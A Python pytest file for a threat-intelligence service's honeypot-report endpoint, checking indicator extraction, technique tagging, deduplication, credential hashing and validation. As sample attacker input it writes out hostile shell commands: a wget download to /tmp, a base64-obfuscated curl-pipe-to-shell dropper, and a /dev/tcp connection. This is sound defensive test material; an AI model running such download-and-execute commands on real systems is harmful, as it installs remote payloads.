"""``POST /api/trap-intel``: a visit becomes indicators that know each other, and no password is kept."""

import base64
import hashlib
from typing import Any

import pytest

from tests.engines import contents
from tests.http.conftest import HONEYPOT, Api, LiveServer, bad_fields, fresh_domain, fresh_ip, ok, refused
from tests.http.test_threats import at


def visit(attacker: str, *commands: str, **more: Any) -> dict[str, Any]:
    acts = [{"timestamp": at(seconds=9), "action": "command", "data": command} for command in commands]
    connect = {"timestamp": at(seconds=60), "action": "connect", "data": None}
    return {
        "trapId": "trap-1",
        "attackerIp": attacker,
        "honeypotType": "ssh",
        "interactions": [connect, *acts],
        **more,
    }


def test_a_visitor_who_fetches_is_blocked_with_what_was_fetched(api: Api) -> None:
    attacker, host, payload = fresh_ip(), fresh_domain(), hashlib.sha256(fresh_ip().encode()).hexdigest()
    done = ok(
        api.post("/api/trap-intel", json=visit(attacker, f"cd /tmp; wget http://{host}/x", payloads=[payload])), 201
    )
    found = api.detail(attacker)
    assert (done["iocId"], done["campaignMatch"]) == (found["id"], None)
    assert done["reputationDelta"] == found["reputation"] - 80 < 0
    assert found["reputation"] <= 30
    assert (found["category"], found["sources"]) == ("malware", ["honeypot"])
    assert {item["id"] for item in found["techniques"]} == {"T1059", "T1105"}
    assert found["metadata"]["ports"] == [22]
    related = {(item["value"], item["type"]) for item in found["relatedIocs"]}
    assert related == {(f"http://{host}/x", "url"), (host, "domain"), (payload, "hash")}
    assert attacker in [item["value"] for item in api.detail(payload)["relatedIocs"]]


def test_what_is_wrapped_is_found_too(api: Api) -> None:
    attacker, dropper = fresh_ip(), fresh_ip()
    wrapped = base64.b64encode(f"curl -s http://{dropper}/a.sh | sh".encode()).decode()
    said = visit(attacker, f"echo {wrapped} | base64 -d | bash", "cat < /dev/tcp/127.0.0.1/80")
    ok(api.post("/api/trap-intel", json=said), 201)
    related = {item["value"] for item in api.detail(attacker)["relatedIocs"]}
    assert related == {f"http://{dropper}/a.sh", dropper}


def test_what_was_typed_at_the_login_is_no_command(api: Api) -> None:
    attacker, host = fresh_ip(), fresh_domain()
    said = visit(attacker)
    said["interactions"].append({"timestamp": at(), "action": "login-input", "data": f"wget http://{host}/x"})
    ok(api.post("/api/trap-intel", json=said), 201)
    found = api.detail(attacker)
    assert found["relatedIocs"] == []
    assert found["category"] == "bruteforce"


def test_what_was_fetched_is_found_without_a_command(api: Api) -> None:
    attacker, host = fresh_ip(), fresh_domain()
    said = visit(attacker)
    said["interactions"].append({"timestamp": at(), "action": "file_download", "data": {"url": f"http://{host}/x"}})
    ok(api.post("/api/trap-intel", json=said), 201)
    found = api.detail(attacker)
    assert {item["value"] for item in found["relatedIocs"]} == {host, f"http://{host}/x"}
    assert "T1059" not in {item["id"] for item in found["techniques"]}


def test_a_visit_told_again_under_its_session_id_is_known(api: Api, server: LiveServer) -> None:
    attacker = fresh_ip()
    said = visit(attacker, sessionId="a1b2c3")
    first, again = (ok(api.post("/api/trap-intel", json=said), 201) for _ in range(2))
    assert first["reputationDelta"] < 0
    assert again == {**first, "reputationDelta": 0}
    assert api.detail(attacker)["sightings"] == 1
    for other in ({"sessionId": "other"}, {"trapId": "trap-2"}):
        ok(api.post("/api/trap-intel", json={**said, **other}), 201)
    ok(server.client(HONEYPOT).post("/api/trap-intel", json=said), 201)
    assert api.detail(attacker)["sightings"] == 4


def test_one_who_only_connects_is_a_scanner_and_in_no_list(api: Api) -> None:
    attacker = fresh_ip()
    ok(api.post("/api/trap-intel", json=visit(attacker, honeypotType="custom")), 201)
    found = api.detail(attacker)
    assert (found["category"], found["severity"]) == ("scanner", "medium")


def test_passwords_leave_a_digest_and_nothing_else(api: Api, server: LiveServer) -> None:
    attacker, other, password = fresh_ip(), fresh_ip(), "correct horse battery staple"
    pair = {"username": "root", "password": password}
    for address in (attacker, other):
        ok(
            api.post("/api/trap-intel", json=visit(address, credentials=[pair, {"username": "pi", "password": ""}])),
            201,
        )
    metadata = api.detail(attacker)["metadata"]
    assert metadata["usernames"] == ["root", "pi"]
    assert metadata["attempts"] == 2
    assert metadata["credentialDigests"] == api.detail(other)["metadata"]["credentialDigests"]
    assert len(set(metadata["credentialDigests"])) == 2
    stored = contents(server.settings.place)
    assert attacker.encode() in stored
    assert password.encode() not in stored
    assert hashlib.sha256(password.encode()).hexdigest() not in str(metadata)


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"attackerIp": "nobody"}, "attackerIp"),
        ({"attackerIp": "evil.example.net"}, "attackerIp"),
        ({"honeypotType": "rdp"}, "honeypotType"),
        ({"trapId": "a b"}, "trapId"),
        ({"interactions": []}, "interactions"),
        ({"interactions": [{"timestamp": "yesterday", "action": "x"}]}, "interactions[0].timestamp"),
        ({"interactions": [{"timestamp": "2999-01-01T00:00:00Z", "action": "x"}]}, "interactions[0].timestamp"),
        ({"interactions": [{"action": "x"}]}, "interactions[0].timestamp"),
        ({"interactions": [{"timestamp": "2026-03-07T08:15:00Z", "action": "x"}] * 1001}, "interactions"),
        ({"payloads": ["d41d8cd98f00b204e9800998ecf8427e"]}, "payloads[0]"),
        ({"payloads": ["0" * 64, "not a digest"]}, "payloads[1]"),
        ({"sessionId": ""}, "sessionId"),
        ({"sessionId": "x" * 129}, "sessionId"),
        ({"credentials": [{"username": "root"}]}, "credentials[0].password"),
    ],
)
def test_what_is_wrong_is_named_and_nothing_is_stored(api: Api, change: dict[str, Any], field: str) -> None:
    before = ok(api.get("/api/stats"))["totalSightings"]
    assert bad_fields(api.post("/api/trap-intel", json={**visit(fresh_ip()), **change})) == [field]
    assert ok(api.get("/api/stats"))["totalSightings"] == before


def test_a_private_visitor_is_news_to_its_owner_and_never_published(api: Api) -> None:
    ok(api.post("/api/trap-intel", json=visit("10.66.1.9", "wget http://10.66.1.10/x")), 201)
    assert api.detail("10.66.1.9")["withheld"]["code"] == "non-global"


def test_a_reader_may_not_report(server: LiveServer) -> None:
    refused(server.client(None).post("/api/trap-intel", json=visit(fresh_ip())), 401, "unauthenticated")
